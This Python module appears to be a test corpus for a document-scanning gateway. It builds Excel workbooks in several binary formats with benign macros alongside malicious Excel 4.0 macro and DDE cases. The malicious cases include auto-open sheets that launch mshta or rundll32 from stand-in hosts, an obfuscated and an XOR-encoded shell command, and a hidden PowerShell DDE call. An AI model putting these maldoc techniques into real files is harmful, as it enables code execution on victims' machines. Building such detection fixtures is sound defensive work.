"""Binary workbooks with formulas of macro sheets, bad and honest: the same ones in each form."""

from __future__ import annotations

from gateway.extraction.ole.tokens import Dialect
from tools.corpus.detections.case import Case
from tools.corpus.vba import WORKBOOK_CLASS, Module, vba_project_bin
from tools.corpus.xls import xls, xls4
from tools.corpus.xlsb import BinarySheet, Cell, xlsb

_START = {"Auto_Open": "Macro1!$A$1", "_xlfn.BITXOR": "#NAME?"}
"""Where it starts; functions of later versions of Excel are names."""
_DATA: dict[str, Cell] = {"A1": "Total", "B1": 4.0, "B2": 8.0, "B3": "=SUM(B1:B2)"}

_SHELL: dict[str, Cell] = {
    "A1": "=IF(GET.WORKSPACE(19),,CLOSE(TRUE))",
    "A2": '=SET.NAME("c",CHAR(99)&CHAR(109)&CHAR(100)&" /c ")',
    "A3": '=EXEC(EVALUATE("c")&B1&MID("xxmshta http://e.example/a",3,99))',
    "A4": "=HALT()",
    "B1": "start ",
}
_FETCH: dict[str, Cell] = {
    "A1": '=FORMULA("=CA"&"LL(""urlmon"",""URLDownloadToFileA"",""JJCCJJ"",0,B1,B2,0,0)",A3)',
    "A2": '=SET.VALUE(B2,"C:\\Users\\Public\\"&"x.dll")',
    "A4": '=IF(1=1,EXEC("rundll32 "&B2&",Start"),RETURN())',
    "A5": "=RETURN()",
    "B1": "http://f.example/x.dll",
}
_DECODED: dict[str, Cell] = {
    **{f"C{row}": float(ord(char) ^ 5) for row, char in enumerate("mshta http://g.example", 1)},
    "A1": '=SET.VALUE(B1,"")',
    "A2": "=SET.VALUE(B2,0)",
    "A3": "=WHILE(B2<22)",
    "A4": "=SET.VALUE(B1,B1&CHAR(BITXOR(INDEX(C1:C22,B2+1),5)))",
    "A5": "=SET.VALUE(B2,B2+1)",
    "A6": "=NEXT()",
    "A7": "=RUN(D1)",
    "D1": "=EXEC(B1)",
    "D2": "=RETURN()",
}
_CHECK: dict[str, Cell] = {
    "A1": '=IF(Data!A1="Total",GOTO(A3),ALERT("Please fill in the sheet",2))',
    "A2": "=HALT()",
    "A3": '=FORMULA("checked",B1)',
    "A4": '=WORKBOOK.ACTIVATE("Data")',
    "A5": "=RETURN()",
}
_TOTALS: dict[str, Cell] = {
    "A1": '=SET.NAME("sum",SUM(Data!B1:B2))',
    "A2": '=IF(Data!B1>2,MESSAGE(TRUE,"Total: "&TEXT(Data!B3,"0.00")),MESSAGE(FALSE))',
    "A3": "=FORMULA(ROUND(Data!B2/3,2),B2)",
    "A4": '=FORMAT.FONT("Arial",12,TRUE)',
    "A5": "=RETURN()",
}
_MACRO = """
Private Sub Workbook_Open()
    Dim c As Range, sum As Double
    For Each c In Sheets("Data").Range("B1:B2")
        sum = sum + c.Value
    Next c
    If Sheets("Data").Range("B3").Formula <> "" Then Application.StatusBar = "Total: " & sum
    If sum <> 12 Then CreateObject("No.Such.Thing")
End Sub
"""
"""An honest macro that reads cells; where they were read wrongly it fails."""


def _sheets(macro: dict[str, Cell]) -> list[BinarySheet]:
    return [BinarySheet("Data", _DATA), BinarySheet("Macro1", macro, macro=True, hidden=True)]


def _xlsb(macro: dict[str, Cell]) -> bytes:
    return xlsb(_sheets(macro), names=_START)


def _xls(macro: dict[str, Cell]) -> bytes:
    return xls(_sheets(macro), names=_START)


def _xls5(macro: dict[str, Cell]) -> bytes:
    return xls(_sheets(macro), names=_START, dialect=Dialect.BIFF5)


def _xls4(macro: dict[str, Cell]) -> bytes:
    return xls4(macro, {**_START, "Auto_Open": "$A$1"})


def _xls_dde(program: str, topic: str) -> bytes:
    return xls([BinarySheet("Data", _DATA)], dde=(program, topic))


def _xlsb_project() -> bytes:
    project = vba_project_bin([Module("ThisWorkbook", _MACRO, WORKBOOK_CLASS)])
    return xlsb([BinarySheet("Data", _DATA)], project=project)


def _xlsb_dde(program: str, topic: str) -> bytes:
    return xlsb([BinarySheet("Data", {**_DATA, "C1": "=ddeitem"})], dde=(program, topic))


SHEETS_BAD: tuple[Case, ...] = (
    Case("shell.xlsb", "xlsb", lambda: _xlsb(_SHELL), "document-starts-shell"),
    Case("fetch.xlsb", "xlsb", lambda: _xlsb(_FETCH), "windows-download-and-run"),
    Case("decoded.xlsb", "xlsb", lambda: _xlsb(_DECODED), "document-starts-shell"),
    Case(
        "dde.xlsb",
        "xlsb",
        lambda: _xlsb_dde("cmd", "/c powershell -w hidden -c calc"),
        "document-starts-shell",
    ),
    Case("shell-5.xls", "ole-xls", lambda: _xls5(_SHELL), "document-starts-shell"),
    Case("decoded-5.xls", "ole-xls", lambda: _xls5(_DECODED), "document-starts-shell"),
    Case("fetch-4.xls", "ole-xls", lambda: _xls4(_FETCH), "windows-download-and-run"),
    Case("fetch.xls", "ole-xls", lambda: _xls(_FETCH), "windows-download-and-run"),
    Case(
        "dde.xls",
        "ole-xls",
        lambda: _xls_dde("cmd", "/c mshta http://h.example/a"),
        "document-starts-shell",
    ),
)
SHEETS_HONEST: tuple[Case, ...] = (
    Case("plain.xlsb", "xlsb", lambda: xlsb([BinarySheet("Data", _DATA)])),
    Case("check.xlsb", "xlsb", lambda: _xlsb(_CHECK)),
    Case("totals.xlsb", "xlsb", lambda: _xlsb(_TOTALS)),
    Case("macro.xlsb", "xlsb", _xlsb_project),
    Case("prices.xlsb", "xlsb", lambda: _xlsb_dde("MTX", "DATA")),
    Case("check-5.xls", "ole-xls", lambda: _xls5(_CHECK)),
    Case("totals-5.xls", "ole-xls", lambda: _xls5(_TOTALS)),
    Case("totals.xls", "ole-xls", lambda: _xls(_TOTALS)),
    Case("prices.xls", "ole-xls", lambda: _xls_dde("MTX", "DATA")),
)
